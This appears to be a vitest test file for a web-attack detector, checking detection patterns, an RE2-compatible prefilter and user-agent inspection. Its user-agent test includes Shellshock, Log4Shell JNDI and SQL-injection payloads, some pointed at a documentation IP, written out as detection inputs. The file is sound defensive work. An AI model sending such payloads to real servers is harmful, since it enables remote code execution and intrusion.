// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders are what is tested
import { describe, expect, it } from 'vitest';
import { FRAGMENTS } from '../../../src/detectors/web-attacks/campaign-filter.ts';
import { inspectHeader, inspectTarget } from '../../../src/detectors/web-attacks/inspect.ts';
import { ODD_PATTERNS } from '../../../src/detectors/web-attacks/odd-request.ts';
import { PAIR_PATTERNS, PATH_PROBES } from '../../../src/detectors/web-attacks/patterns/probes.ts';
import { AGENT_PATTERNS, VALUE_PATTERNS } from '../../../src/detectors/web-attacks/patterns/registry.ts';
import { AGENT_SIEVE, targetMayAttack } from '../../../src/detectors/web-attacks/prefilter.ts';
import { DISGUISES } from './disguises.ts';

const ALL = [...VALUE_PATTERNS, ...PAIR_PATTERNS, ...PATH_PROBES, ...AGENT_PATTERNS, ...ODD_PATTERNS];

describe('every pattern', () => {
  it.each(ALL.map((pattern) => ({ pattern, id: pattern.id })))(
    '$id matches its test lines alone',
    ({ pattern }) => {
      for (const line of pattern.matches) expect(pattern.expression.test(line), line).toBe(true);
      for (const line of pattern.passes) expect(pattern.expression.test(line), line).toBe(false);
      expect(pattern.matches.length).toBeGreaterThan(0);
      expect(pattern.passes.length).toBeGreaterThan(0);
    },
  );

  it('has an id of its own, a source and ATT&CK techniques', () => {
    expect(new Set(ALL.map(({ id }) => id)).size).toBe(ALL.length);
    for (const { id, source, attack } of ALL) {
      expect(source.length, id).toBeGreaterThan(5);
      expect(attack.length, id).toBeGreaterThan(0);
      for (const technique of attack) expect(technique, id).toMatch(/^T\d{4}([.]\d{3})?$/);
    }
  });

  it('uses no flag that keeps state', () => {
    expect(ALL.filter(({ expression }) => expression.flags !== '').map(({ id }) => id)).toEqual([]);
  });
});

describe.each(Object.entries(DISGUISES))('attacks %s', (_name, disguise) => {
  it('pass the sieve and are seen through', () => {
    for (const pattern of VALUE_PATTERNS) {
      for (const line of pattern.matches) {
        const target = pattern.id === 'query-operators' ? `/a?${disguise(line)}=1` : `/a?q=${disguise(line)}`;
        expect(targetMayAttack(target), `${pattern.id}: ${target}`).toBe(true);
        expect(inspectTarget(target).length, `${pattern.id}: ${target}`).toBeGreaterThan(0);
      }
    }
  });
});

describe('forms of a path and of a name with its value', () => {
  it('pass the sieve and are seen in a request', () => {
    const targets = [
      ...PATH_PROBES.flatMap(({ matches }) => matches),
      ...PAIR_PATTERNS.flatMap(({ matches }) => matches.map((line) => `/a?${line.replaceAll(' ', '+')}`)),
    ];
    for (const target of targets) {
      expect(targetMayAttack(target), target).toBe(true);
      expect(inspectTarget(target).length, target).toBeGreaterThan(0);
    }
  });
});

describe('the sieve', () => {
  it('holds back whatever has one of the pieces that filters are made of', () => {
    expect(FRAGMENTS.filter((piece) => !targetMayAttack(`/a${piece}`))).toEqual([]);
  });

  it('is written so that RE2 and JavaScript read it alike', () => {
    expect(AGENT_SIEVE).not.toMatch(/\(\?[=!<]|\\[1-9]/);
  });

  it('lets ordinary addresses go', () => {
    const ordinary = [
      '/',
      '/static/app.9f8e7d.js',
      '/search?q=standing+lamp&page=2',
      '/articles/2026/03/10/on-lamps?utm_source=mail&utm_campaign=spring',
      '/caf%C3%A9/men%C3%BC?gr%C3%B6%C3%9Fe=xl',
    ];
    expect(ordinary.filter(targetMayAttack)).toEqual([]);
  });
});

describe('an agent', () => {
  it('is told from a scanner and from an attack', () => {
    const seen = (agent: string): readonly string[] =>
      inspectHeader(agent, 'agent').map(({ pattern }) => pattern.id);
    expect(seen('Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)')).toEqual(['tool-name']);
    expect(seen('() { :;}; /bin/ping -c 3 203.0.113.9')).toContain('function-definition');
    expect(seen('${jndi:ldap://203.0.113.9/a}')).toEqual(['jndi']);
    expect(seen("Mozilla/5.0' AND SLEEP(5)-- -")).toContain('waiting');
    expect(seen('Mozilla/5.0 (X11; Linux x86_64; rv:5.0) Gecko (like KHTML) "quoted"')).toEqual([]);
    expect(seen('Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 3.5)')).toEqual([]);
  });
});
